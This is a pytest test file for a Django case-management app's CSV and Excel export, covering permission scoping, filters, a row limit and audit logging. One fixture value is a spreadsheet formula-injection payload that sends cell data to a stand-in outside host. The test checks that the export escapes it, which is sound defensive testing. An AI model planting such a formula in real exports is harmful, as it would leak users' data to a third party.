"""A list as a spreadsheet: what the person sees and nothing else, and no cell computes anything."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from amends.accounts.models import User
from amends.cases.models import Case
from amends.record.models import ActionLog
from amends.web import export_view

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


@pytest.fixture
def cases(make_case: Callable[..., Case]) -> list[Case]:
    return [make_case(FORMULA), make_case("Şikâyetim var"), make_case("Private matter")]


def read_csv(answer: HttpResponse) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_a_list_is_taken_away_with_formulas_made_plain(
    cases: list[Case], client: Client, lead: User
) -> None:
    client.force_login(lead)
    answer = client.get(reverse("export_csv", args=["all"]))
    rows = read_csv(answer)
    assert {row["words"] for row in rows} == {f"'{FORMULA}", "Şikâyetim var", "Private matter"}
    assert rows[0]["case"] == cases[-1].public_id
    entry = ActionLog.objects.get(action="case.export")
    assert (entry.subject_id, entry.data["cases"], entry.data["format"]) == ("all", 3, "csv")


def test_a_workbook_holds_texts_and_dates(cases: list[Case], client: Client, lead: User) -> None:
    client.force_login(lead)
    raw = client.get(reverse("export_xlsx", args=["all"])).content
    sheet = load_workbook(io.BytesIO(raw)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    column = header.index("words") + 1
    cell = next(
        row[column - 1]
        for row in sheet.iter_rows(min_row=2)
        if "HYPER" in str(row[column - 1].value)
    )
    assert (cell.data_type, cell.value) == ("s", f"'{FORMULA}")
    assert sheet.cell(2, header.index("published_at") + 1).is_date


def test_restricted_lanes_and_other_workspaces_stay_out(
    cases: list[Case], client: Client, agent: User, counsel: User, stranger: User
) -> None:
    Case.objects.filter(pk=cases[2].pk).update(lane="legal")
    client.force_login(counsel)
    assert len(read_csv(client.get(reverse("export_csv", args=["all"])))) == 3
    client.force_login(stranger)
    assert read_csv(client.get(reverse("export_csv", args=["all"]))) == []
    client.force_login(agent)
    assert client.get(reverse("export_csv", args=["all"])).status_code == 403


def test_a_list_is_narrowed_as_on_the_page(cases: list[Case], client: Client, lead: User) -> None:
    client.force_login(lead)
    url = reverse("export_csv", args=["all"])
    assert read_csv(client.get(url, {"channel": "999999"})) == []
    assert len(read_csv(client.get(url, {"channel": str(cases[0].comment.account_id)}))) == 3
    assert client.get(reverse("export_csv", args=["nowhere"])).status_code == 404


def test_a_list_that_is_too_long_is_refused_with_a_word(
    cases: list[Case], client: Client, lead: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_view, "LIMIT", 2)
    client.force_login(lead)
    answer = client.get(reverse("export_csv", args=["all"]), follow=True)
    assert "Narrow the list first" in answer.content.decode()
    assert not ActionLog.objects.filter(action="case.export").exists()
